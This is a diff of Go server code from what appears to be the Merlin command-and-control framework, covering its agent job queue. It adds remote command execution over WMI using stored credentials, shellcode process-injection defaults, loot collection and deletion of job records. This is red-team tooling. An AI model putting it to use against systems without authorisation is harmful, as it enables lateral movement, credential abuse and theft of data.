+		// jobArgs[5] - the destination listener's ID
+		if len(jobArgs) < 6 {
+			return "", fmt.Errorf("pkg/services/job.Add(): expected 6 arguments for the transport command, received %d", len(jobArgs))
+		}
+		job.Type = jobs.CONTROL
+		job.Payload = jobs.Command{
+			Command: "transport",
+			Args:    jobArgs,
+		}
 	case "unlink":
 		job.Type = jobs.MODULE
 		p := jobs.Command{
@@ -411,6 +1023,11 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 		}
 		job.Payload = p
 	case "upload":
+		// jobArgs[0] - base64 encoded file
+		// jobArgs[1] - the file path on the Agent's host to write the file to
+		if len(jobArgs) < 2 {
+			return "", fmt.Errorf("the upload command requires two arguments, have %d", len(jobArgs))
+		}
 		job.Type = jobs.FILETRANSFER
 		p := jobs.FileTransfer{
 			FileLocation: jobArgs[1],
@@ -424,16 +1041,40 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			Command: "uptime",
 		}
 		job.Payload = p
+	case "wmiexec":
+		// jobArgs[0] - the remote host to execute the command on
+		// jobArgs[1] - the command line to execute
+		// jobArgs[2] - optional username to retrieve credentials for from the credential store; the current token is used if empty
+		// jobArgs[3] - optional named pipe of the spawned SMB Agent to automatically link to
+		if len(jobArgs) < 2 {
+			return "", fmt.Errorf("expected at least 2 arguments for the wmiexec command, received: %+v", jobArgs)
+		}
+		user, secret, err := s.windowsCredential(jobArgs[2:])
+		if err != nil {
+			return "", err
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    []string{jobArgs[0], jobArgs[1], user, secret},
+		}
 	default:
 		return "", fmt.Errorf("invalid job type: %d", job.Type)
 	}
 
-	return s.AddJobChannel(agentID, &job, jobArgs)
+	return s.addJobChannel(agentID, job, jobArgs, gate, attack.Merge(attack.Techniques(jobType), techniques)...)
 }
 
 // AddJobChannel adds an already built Agent Job to the agent's job channel to be sent to the agent when it checks in.
 // A server-side job tracking structure is also added to track job status
-func (s *Service) AddJobChannel(agentID uuid.UUID, job *jobs.Job, jobArgs []string) (results string, err error) {
+// Any provided MITRE ATT&CK technique IDs are recorded with the job
+func (s *Service) AddJobChannel(agentID uuid.UUID, job *jobs.Job, jobArgs []string, techniques ...string) (results string, err error) {
+	return s.addJobChannel(agentID, job, jobArgs, nil, techniques...)
+}
+
+// addJobChannel adds an already built Agent Job to the agent's job channel. Broadcast jobs skip Agents that are not
+// running on one of the provided platforms
+func (s *Service) addJobChannel(agentID uuid.UUID, job *jobs.Job, jobArgs []string, platforms []string, techniques ...string) (results string, err error) {
 	agents := s.agentService.Agents()
 	// If the Agent is set to broadcast identifier for ALL agents
 	if agentID.String() == "ffffffff-ffff-ffff-ffff-ffffffffffff" {
@@ -442,21 +1083,30 @@ func (s *Service) AddJobChannel(agentID uuid.UUID, job *jobs.Job, jobArgs []stri
 		}
 		results = "Creating jobs for all agents through broadcast identifier ffffffff-ffff-ffff-ffff-ffffffffffff"
 		for _, a := range agents {
+			// Quarantined Agents are hidden from broadcast jobs
+			if a.Quarantined() {
+				results += fmt.Sprintf("\n\tSkipped quarantined agent %s", a.ID())
+				continue
+			}
+			if !compatible(a, platforms) {
+				results += fmt.Sprintf("\n\tSkipped agent %s because the command is not supported on %s", a.ID(), a.Host().Platform)
+				continue
+			}
 			// Because the job structure is a pointer, we need to clear out the job ID for each iteration
 			job.ID = ""
-			err = s.buildJob(a.ID(), job, jobArgs)
+			err = s.buildJob(a.ID(), job, jobArgs, techniques)
 			if err != nil {
 				return results, err
 			}
-			results += fmt.Sprintf("\n\tCreated job %s for agent %s at %s", job.ID, a.ID(), time.Now().UTC().Format(time.RFC3339))
+			results += fmt.Sprintf("\n\tCreated job %s for agent %s at %s%s", job.ID, a.ID(), time.Now().UTC().Format(time.RFC3339), s.pendingNote(job.ID))
 		}
 	} else {
 		// A single Agent
-		err = s.buildJob(agentID, job, jobArgs)
+		err = s.buildJob(agentID, job, jobArgs, techniques)
 		if err != nil {
 			return results, err
 		}
-		results += fmt.Sprintf("Created job %s for agent %s at %s", job.ID, agentID, time.Now().UTC().Format(time.RFC3339))
+		results += fmt.Sprintf("Created job %s for agent %s at %s%s", job.ID, agentID, time.Now().UTC().Format(time.RFC3339), s.pendingNote(job.ID))
 	}
 	return results, nil
 }
@@ -465,14 +1115,46 @@ func (s *Service) AddJobChannel(agentID uuid.UUID, job *jobs.Job, jobArgs []stri
 // to be sent to the agent when it checks in.
 // A server-side job tracking structure is also added to track job status.
 // The job is also added to the server-side agent log file
-func (s *Service) buildJob(agentID uuid.UUID, job *jobs.Job, jobArgs []string) error {
+func (s *Service) buildJob(agentID uuid.UUID, job *jobs.Job, jobArgs []string, techniques []string) error {
 	a, err := s.agentService.Agent(agentID)
 
 	if err != nil {
 		return fmt.Errorf("pkg/server/jobs.buildJob(): there was an error adding a job because %s is an unknown agent", agentID)
 	}
+	if a.Quarantined() {
+		return fmt.Errorf("pkg/server/jobs.buildJob(): agent %s is quarantined (%s) and can't be tasked until it is released", agentID, a.Quarantine())
+	}
 	job.AgentID = agentID
 
+	// Apply the Agent's default process injection technique to jobs that don't specify one.
+	// The job is shared across Agents for broadcast jobs, so the original payload is restored once this job is built
+	var injection string
+	switch job.Type {
+	case jobs.SHELLCODE:
+		payload := job.Payload.(jobs.Shellcode)
+		if payload.Method == "" {
+			if a.Injection() == "" {
+				return fmt.Errorf("pkg/server/jobs.buildJob(): a shellcode method was not provided and agent %s does not have an injection-method set", agentID)
+			}
+			defer func(p interface{}) { job.Payload = p }(job.Payload)
+			payload.Method = a.Injection()
+			job.Payload = payload
+		}
+		injection = payload.Method
+	case jobs.MODULE:
+		cmd := job.Payload.(jobs.Command)
+		if cmd.Command == "CreateProcess" {
+			if len(cmd.Args) == 3 && a.Injection() != "" {
+				defer func(p interface{}) { job.Payload = p }(job.Payload)
+				cmd.Args = append(cmd.Args[:3:3], a.Injection())
+				job.Payload = cmd
+			}
+			if len(cmd.Args) > 3 {
+				injection = cmd.Args[3]
+			}
+		}
+	}
+
 	var command string
 	// Update the Command field of the Job info structure
 	switch job.Type {
@@ -486,7 +1168,7 @@ func (s *Service) buildJob(agentID uuid.UUID, job *jobs.Job, jobArgs []string) e
 				}
 			}
 		}
-		args := fmt.Sprintf("%s", strings.Join(cmd.Args, " "))
+		args := fmt.Sprintf("%s", strings.Join(redact(cmd), " "))
 		// Truncate to 30 characters
 		if len(args) > 30 {
 			args = fmt.Sprintf("%s...", args[:30])
@@ -508,7 +1190,7 @@ func (s *Service) buildJob(agentID uuid.UUID, job *jobs.Job, jobArgs []string) e
 		cmd := job.Payload.(jobs.FileTransfer)
 		if cmd.IsDownload {
 			// Upload to agent (the server is uploading a file that the agent is downloading the file from the server)
-			if len(jobArgs) > 2 {
+			if len(jobArgs) > 3 {
 				msg := fmt.Sprintf(
 					"Uploading file from server at %s of size %s bytes and SHA-256: %x to agent at %s",
 					jobArgs[0],
@@ -544,6 +1226,20 @@ func (s *Service) buildJob(agentID uuid.UUID, job *jobs.Job, jobArgs []string) e
 		// SOCKS jobs create their own job ID and token that are used through the lifetime of the connection
 		jobInfo = infoJobs.NewInfoWithID(agentID, job.Type.String(), command, job.ID, job.Token)
 	}
+	jobInfo.SetAttack(techniques)
+	jobInfo.SetInjection(injection)
+	// SOCKS jobs are only created while the Agent is connected through a SOCKS listener
+	if job.Type != jobs.SOCKS {
+		s.pending(agentID, &jobInfo)
+	}
+	if job.Type == jobs.MODULE {
+		for key, value := range commandMetadata(job.Payload.(jobs.Command), jobArgs) {
+			jobInfo.SetMetadata(key, value)
+		}
+	}
+	if job.Type == jobs.FILETRANSFER && !job.Payload.(jobs.FileTransfer).IsDownload && len(jobArgs) > 1 {
+		jobInfo.SetMetadata(metaAttempt, jobArgs[1])
+	}
 
 	if job.Token == uuid.Nil {
 		job.Token = jobInfo.Token()
@@ -554,39 +1250,53 @@ func (s *Service) buildJob(agentID uuid.UUID, job *jobs.Job, jobArgs []string) e
 	}
 
 	// Add the job to the server side job list
-	s.jobRepo.Add(*job, jobInfo)
+	err = s.jobRepo.Add(*job, jobInfo)
+	if err != nil {
+		return fmt.Errorf("pkg/server/jobs.buildJob(): %w", err)
+	}
+	s.recordIOCs(a, *job)
+	s.runHooks(HookQueued, jobInfo, jobs.Results{})
 
 	// Log the job
 	msg := fmt.Sprintf("Created job Type:%s, ID:%s, Status:%s, Command:%s",
 		job.Type,
 		job.ID,
-		"Created",
+		jobInfo.StatusString(),
 		command,
 	)
+	if !jobInfo.Expires().IsZero() {
+		msg += fmt.Sprintf(", Expires:%s", jobInfo.Expires().Format(time.RFC3339))
+	}
+	if injection != "" {
+		msg += fmt.Sprintf(", Injection:%s", injection)
+	}
+	if len(techniques) > 0 {
+		msg += fmt.Sprintf(", ATT&CK:%s", strings.Join(techniques, ","))
+	}
 	a.Log(msg)
 	return nil
 }
 
-// checkJob verifies that the input job message contains the expected token and was not yet completed
+// checkJob verifies that the input job message belongs to the expected Agent, contains the expected token, and was
+// not yet completed
 func (s *Service) checkJob(job jobs.Job) error {
 	// Check to make sure agent UUID is in dataset
 	if !s.agentService.Exist(job.AgentID) {
 		return fmt.Errorf("job %s was for an invalid agent %s", job.ID, job.AgentID)
 	}
-	j, err := s.jobRepo.GetInfo(job.ID)
+	j, err := s.correlate(job)
 	if err != nil {
 		return fmt.Errorf("pkg/services/job.checkJob: %s", err)
 	}
-
-	if job.Token != j.Token() {
-		return fmt.Errorf("job %s for agent %s did not contain the correct token. Expected: %s, Got: %s", job.ID, job.AgentID, j.Token(), job.Token)
-	}
-	if j.Status() == infoJobs.COMPLETE {
+	if j.Status() == infoJobs.COMPLETE || j.Status() == infoJobs.FAILED {
 		return fmt.Errorf("job %s for agent %s was previously completed on %s", job.ID, job.AgentID, j.Completed())
 	}
 	if j.Status() == infoJobs.CANCELED {
 		return fmt.Errorf("job %s for agent %s was previously canceled on", job.ID, job.AgentID)
 	}
+	if j.Status() == infoJobs.EXPIRED {
+		return fmt.Errorf("job %s for agent %s expired on %s and was not sent", job.ID, job.AgentID, j.Completed())
+	}
 	return nil
 }
 
@@ -600,14 +1310,22 @@ func (s *Service) ClearAll() error {
 	return s.jobRepo.ClearAll()
 }
 
-// fileTransfer handles file upload/download operations
-func (s *Service) fileTransfer(agentID uuid.UUID, p jobs.FileTransfer) error {
+// Remove deletes every job for the agent, sent or not, along with its queue, so that no record of its jobs is kept
+func (s *Service) Remove(agentID uuid.UUID) error {
+	return s.jobRepo.Remove(agentID)
+}
+
+// fileTransfer handles file upload/download operations.
+// Downloaded files are verified against the SHA-256 hash the Agent computed for its source file, if it returned one
+func (s *Service) fileTransfer(agentID uuid.UUID, info infoJobs.Info, p jobs.FileTransfer) error {
 	// Check to make sure it is a known agent
 	if !s.agentService.Exist(agentID) {
 		return fmt.Errorf("%s is not a valid agent", agentID)
 	}
 
 	if p.IsDownload {
+		var expected []byte
+		p.FileLocation, expected = downloadHash(p.FileLocation)
 		current, err := os.Getwd()
 		if err != nil {
 			return fmt.Errorf("there was an error getting the current working directory: %s", err)
@@ -624,7 +1342,7 @@ func (s *Service) fileTransfer(agentID uuid.UUID, p jobs.FileTransfer) error {
 		}
 		userMessage := message.NewMessage(message.Success, fmt.Sprintf("Results for %s at %s", agentID, time.Now().UTC().Format(time.RFC3339)))
 		s.messageRepo.Add(userMessage)
-		downloadBlob, downloadBlobErr := base64.StdEncoding.DecodeString(p.FileBlob)
+		downloadBlob, downloadBlobErr := infoJobs.DecodeAgentBlob(agentID, p.FileBlob)
 
 		if downloadBlobErr != nil {
 			errorMessage := fmt.Errorf("there was an error decoding the fileBlob:\r\n%s", downloadBlobErr.Error())
@@ -634,6 +1352,10 @@ func (s *Service) fileTransfer(agentID uuid.UUID, p jobs.FileTransfer) error {
 			}
 			return errorMessage
 		}
+		received := sha256.Sum256(downloadBlob)
+		if !s.verifyDownload(agentID, info, p.FileLocation, expected, received[:]) {
+			return nil
+		}
 		downloadFile := filepath.Join(agentsDir, agentID.String(), f)
 		writingErr := os.WriteFile(downloadFile, downloadBlob, 0600)
 		if writingErr != nil {
@@ -644,11 +1366,15 @@ func (s *Service) fileTransfer(agentID uuid.UUID, p jobs.FileTransfer) error {
 			}
 			return errorMessage
 		}
-		successMessage := fmt.Sprintf("Successfully downloaded file %s with a size of %d bytes from agent %s to %s",
+		successMessage := fmt.Sprintf("Successfully downloaded file %s with a size of %d bytes and SHA-256: %x from agent %s to %s",
 			p.FileLocation,
 			len(downloadBlob),
+			received,
 			agentID.String(),
 			downloadFile)
+		if expected != nil {
+			successMessage += " (integrity verified)"
+		}
 
 		userMessage = message.NewMessage(message.Success, successMessage)
 		s.messageRepo.Add(userMessage)
@@ -662,8 +1388,24 @@ func (s *Service) fileTransfer(agentID uuid.UUID, p jobs.FileTransfer) error {
 	return nil
 }
 
-// Get returns a list of jobs that need to be sent to the agent
-func (s *Service) Get(agentID uuid.UUID) ([]jobs.Job, error) {
+// SetQueueDepth sets the number of unsent jobs each Agent's queue holds before new jobs are refused.
+// Agent control jobs, such as sleep or exit, are always accepted and are sent ahead of all other jobs
+func (s *Service) SetQueueDepth(depth int) error {
+	return s.jobRepo.SetQueueDepth(depth)
+}
+
+// Get returns a list of jobs that need to be sent to the agent.
+// Jobs are not dequeued if the context was cancelled, such as when the Agent's request was aborted, so that they are
+// sent on the next check in instead of being lost
+func (s *Service) Get(ctx context.Context, agentID uuid.UUID) ([]jobs.Job, error) {
+	if err := ctx.Err(); err != nil {
+		return nil, fmt.Errorf("pkg/services/job.Get(): the request for Agent %s jobs was cancelled: %w", agentID, err)
+	}
+	// Jobs queued before the Agent was quarantined are held until it is released
+	if a, err := s.agentService.Agent(agentID); err == nil && a.Quarantined() {
+		return nil, nil
+	}
+	s.expire(agentID)
 	return s.jobRepo.GetJobs(agentID)
 }
 
@@ -676,11 +1418,21 @@ func (s *Service) GetAll() []infoJobs.Info {
 	return returnJobs
 }
 
+// Query returns the page of jobs selected by the filter and the total number of jobs the filter selected
+func (s *Service) Query(filter infoJobs.Filter) ([]infoJobs.Info, int, error) {
+	err := filter.Validate()
+	if err != nil {
+		return nil, 0, fmt.Errorf("pkg/services/job.Query(): %s", err)
+	}
+	page, total := filter.Apply(s.GetAll())
+	return page, total, nil
+}
+
 // GetAllActive returns a list of all jobs that are not complete or canceled
 func (s *Service) GetAllActive() []infoJobs.Info {
 	var returnJobs []infoJobs.Info
 	for _, job := range s.jobRepo.GetAll() {
-		if job.Status() != infoJobs.COMPLETE && job.Status() != infoJobs.CANCELED {
+		if !job.Done() {
 			returnJobs = append(returnJobs, job)
 		}
 	}
@@ -695,7 +1447,7 @@ func (s *Service) GetAgentActive(agentID uuid.UUID) ([]infoJobs.Info, error) {
 
 	for _, job := range s.jobRepo.GetAll() {
 		if job.AgentID() == agentID {
-			if job.Status() != infoJobs.COMPLETE && job.Status() != infoJobs.CANCELED && job.AgentID() == agentID {
+			if !job.Done() && job.AgentID() == agentID {
 				returnJobs = append(returnJobs, job)
 			}
 		}
@@ -714,22 +1466,10 @@ func (s *Service) GetTableActive(agentID uuid.UUID) ([][]string, error) {
 	for id, job := range s.jobRepo.GetAll() {
 		if job.AgentID() == agentID {
 			//message("debug", fmt.Sprintf("GetTableActive(%s) ID: %s, Job: %+v", agentID.String(), id, job))
-			var status string
-			switch job.Status() {
-			case infoJobs.ACTIVE:
-				status = "Active"
-			case infoJobs.CREATED:
-				status = "Created"
-			case infoJobs.SENT:
-				status = "Sent"
-			case infoJobs.RETURNED:
-				status = "Returned"
-			default:
-				status = fmt.Sprintf("Unknown job status: %d", job.Status())
-			}
+			status := job.StatusString()
 			var zeroTime time.Time
-			// Don't add completed or canceled jobs
-			if job.Status() != infoJobs.COMPLETE && job.Status() != infoJobs.CANCELED {
+			// Don't add completed, failed, canceled, or expired jobs
+			if !job.Done() {
 				var sent string
 				if job.Sent() != zeroTime {
 					sent = job.Sent().Format(time.RFC3339)
@@ -753,18 +1493,8 @@ func (s *Service) GetTableAll() [][]string {
 	var agentJobs [][]string
 
 	for id, job := range s.jobRepo.GetAll() {
-		var status string
-		switch job.Status() {
-		case infoJobs.CREATED:
-			status = "Created"
-		case infoJobs.SENT:
-			status = "Sent"
-		case infoJobs.RETURNED:
-			status = "Returned"
-		default:
-			status = fmt.Sprintf("Unknown job status: %d", job.Status())
-		}
-		if job.Status() != infoJobs.COMPLETE && job.Status() != infoJobs.CANCELED {
+		status := job.StatusString()
+		if !job.Done() {
 			var zeroTime time.Time
 			var sent string
 			if job.Sent() != zeroTime {
@@ -784,8 +1514,14 @@ func (s *Service) GetTableAll() [][]string {
 	return agentJobs
 }
 
-// Handler evaluates a message sent in by the agent and the subsequently executes any corresponding tasks
+// Handler evaluates a message sent in by the agent and the subsequently executes any corresponding tasks.
+// Only one message from an Agent is handled at a time, so its jobs' results are applied in the order they were received
 func (s *Service) Handler(agentJobs []jobs.Job) error {
+	// All the jobs in a message are from the Agent that sent it
+	if len(agentJobs) > 0 {
+		unlock := lockAgent(agentJobs[0].AgentID)
+		defer unlock()
+	}
 	// Iterate over each job
 	for _, job := range agentJobs {
 		// Make sure the Agent is known to the server
@@ -795,9 +1531,13 @@ func (s *Service) Handler(agentJobs []jobs.Job) error {
 				return err
 			}
 
-			// Get the job info structure
-			jobInfo, err := s.jobRepo.GetInfo(job.ID)
+			// Get the job info structure; results are only attributed to the job whose ID, Agent, and token they match
+			jobInfo, err := s.correlate(job)
 			if err != nil {
+				if job.Type == jobs.RESULT {
+					s.uncorrelated(a, job, err)
+					continue
+				}
 				return fmt.Errorf("pkg/services/job.Handler(): %s", err)
 			}
 
@@ -806,42 +1546,82 @@ func (s *Service) Handler(agentJobs []jobs.Job) error {
 			if err != nil {
 
 				// Agent will send back error messages that are not the result of a job
-				if job.Type != jobs.RESULT {
+				if job.Type != jobs.RESULT && job.Type != jobs.OK {
 					return err
 				}
+				// Late or duplicate delivery receipts are ignored
+				if job.Type == jobs.OK {
+					continue
+				}
 				if core.Debug {
 					fmt.Printf("Received %s message without job token: %s\n", job.Type, err)
 				}
 			}
+			// Agents acknowledge the jobs they received or started with a delivery receipt
+			if job.Type == jobs.OK {
+				err = s.acknowledge(a, jobInfo, job)
+				if err != nil {
+					return fmt.Errorf("pkg/services/job.Handler(): %s", err)
+				}
+				continue
+			}
+
+			var streaming bool
+			var result jobs.Results
 			switch job.Type {
 			case jobs.RESULT:
 				a.Log(fmt.Sprintf("Results for job: %s", job.ID))
 
-				userMessage := message.NewMessage(message.Note, fmt.Sprintf("Results of job %s for agent %s at %s", job.ID, job.AgentID, time.Now().UTC().Format(time.RFC3339)))
-				s.messageRepo.Add(userMessage)
+				// The job's header and output are displayed together so concurrent results can't be misattributed
+				userMessages := []*message.Message{
+					message.NewMessage(message.Note, fmt.Sprintf("Results of job %s for agent %s at %s", job.ID, job.AgentID, time.Now().UTC().Format(time.RFC3339))),
+				}
 
-				result := job.Payload.(jobs.Results)
+				result = job.Payload.(jobs.Results)
 				if len(result.Stdout) > 0 {
 					a.Log(fmt.Sprintf("Command Results (stdout):\r\n%s", result.Stdout))
-					userMessage = message.NewMessage(message.Success, result.Stdout)
-					s.messageRepo.Add(userMessage)
+					userMessages = append(userMessages, message.NewMessage(message.Success, result.Stdout))
 				}
 				if len(result.Stderr) > 0 {
 					a.Log(fmt.Sprintf("Command Results (stderr):\r\n%s", result.Stderr))
-					userMessage = message.NewMessage(message.Warn, result.Stderr)
-					s.messageRepo.Add(userMessage)
+					userMessages = append(userMessages, message.NewMessage(message.Warn, result.Stderr))
+				}
+				s.render(userMessages...)
+				// Long-running jobs remain active until they are stopped or return an error
+				_, streaming = jobInfo.Metadata(metaStream)
+				// Paged jobs remain active until the Agent returns an empty final page
+				_, paged := jobInfo.Metadata(metaPaged)
+				streaming = (streaming || (paged && len(result.Stdout) > 0)) && len(result.Stderr) == 0
+				err = s.resultMetadata(a, jobInfo, result)
+				if err != nil {
+					return fmt.Errorf("pkg/services/job.Handler(): %s", err)
 				}
 			case jobs.AGENTINFO:
 				err = s.agentService.UpdateAgentInfo(job.AgentID, job.Payload.(messages.AgentInfo))
 				if err != nil {
 					return err
 				}
+				// Track the host the Agent is running on
+				a, err = s.agentService.Agent(job.AgentID)
+				if err != nil {
+					return err
+				}
+				err = s.hostService.AddAgent(a)
+				if err != nil {
+					return err
+				}
 				msg := fmt.Sprintf("Results of job %s for agent %s at %s", job.ID, job.AgentID, time.Now().UTC().Format(time.RFC3339))
 				msg += fmt.Sprintf("\n\tConfiguration data received for Agent %s and updated. Issue the \"info\" command to view it.", job.AgentID)
 				userMessage := message.NewMessage(message.Note, msg)
 				s.messageRepo.Add(userMessage)
 			case jobs.FILETRANSFER:
-				err = s.fileTransfer(job.AgentID, job.Payload.(jobs.FileTransfer))
+				// Files returned by jobs that collect loot, such as screenshots, are stored with the loot service
+				if lootType, ok := jobInfo.Metadata(metaLoot); ok {
+					_, streaming = jobInfo.Metadata(metaStream)
+					err = s.fileLoot(a, jobInfo, lootType, job.Payload.(jobs.FileTransfer))
+				} else {
+					err = s.fileTransfer(job.AgentID, jobInfo, job.Payload.(jobs.FileTransfer))
+				}
 				if err != nil {
 					return err
 				}
@@ -857,6 +1637,10 @@ func (s *Service) Handler(agentJobs []jobs.Job) error {
 				} else {
 					jobInfo.Active()
 				}
+			} else if streaming {
+				jobInfo.Active()
+			} else if len(result.Stderr) > 0 && len(result.Stdout) == 0 {
+				jobInfo.Fail()
 			} else {
 				jobInfo.Complete()
 			}
@@ -864,6 +1648,10 @@ func (s *Service) Handler(agentJobs []jobs.Job) error {
 			if err != nil {
 				return fmt.Errorf("pkg/services/job.Handler(): %s", err)
 			}
+			if jobInfo.Status() == infoJobs.COMPLETE || jobInfo.Status() == infoJobs.FAILED {
+				waiters.deliver(job.ID, result)
+				s.runHooks(HookComplete, jobInfo, result)
+			}
 		} else {
 			userMessage := message.NewMessage(message.Warn, fmt.Sprintf("Job %s was for an invalid agent %s", job.ID, job.AgentID))
 			s.messageRepo.Add(userMessage)
@@ -872,11 +1660,17 @@ func (s *Service) Handler(agentJobs []jobs.Job) error {
 	return nil
 }
 
-// socksJobs is used as a go routine to listen for data coming from a SOCKS client that needs to be sent to the Merlin agent
+// socksJobs is used as a go routine to listen for data coming from a SOCKS client that needs to be sent to the Merlin agent.
+// While the Agent's job queue is full, reading from the SOCKS client is paused until the Agent checks in and drains it
 func (s *Service) socksJobs() {
 	for {
 		job := <-socks.JobsOut
-		err := s.buildJob(job.AgentID, &job, nil)
+		err := s.buildJob(job.AgentID, &job, nil, attack.Techniques("socks"))
+		deadline := time.Now().Add(socksWait)
+		for errors.Is(err, infoJobs.ErrQueueFull) && time.Now().Before(deadline) {
+			time.Sleep(socksBackoff)
+			err = s.buildJob(job.AgentID, &job, nil, attack.Techniques("socks"))
+		}
 
 		if err != nil {
 			msg := message.NewMessage(message.Warn, fmt.Sprintf("there was an error creating a job for SOCKS traffic to the agent: %s", err))